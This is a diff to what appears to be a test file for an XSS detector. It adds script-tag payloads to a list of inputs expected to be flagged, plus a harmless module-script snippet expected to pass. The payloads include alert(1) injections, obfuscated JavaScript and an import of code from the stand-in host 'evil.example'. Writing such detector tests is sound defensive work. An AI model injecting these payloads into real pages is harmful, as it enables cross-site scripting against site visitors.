@@ -91,6 +91,9 @@ const SURE = [
   '*/alert(1)/*',
   '[][(![]+[])[+[]]]',
   '$=~[];$={___:++$,$$$$:(![]+"")[$]}',
+  '<script>/*\nexport let a\n*/alert(1)</script>',
+  '<script type="MODULE">export let a = alert(1)</script>',
+  '<script type="Module">import a from "//evil.example/a.js"</script>',
 ];
 
 const LIKELY = [
@@ -224,6 +227,7 @@ const HONEST = [
   '[text][] and ![](image.png)',
   'Open `<img src=x onerror=alert(1)>` in the old version, and you will see what the report means.',
   'To try it, put this into a page of your own and load it:\n\n```html\n<script>alert(1)</script>\n```\n\nThen reload.',
+  '<script>\n  export let items;\n</script>\n{#each items as x}<p>{x}</p>{/each}',
 ];
 
 it.each(SURE)('%j runs', (value) => {
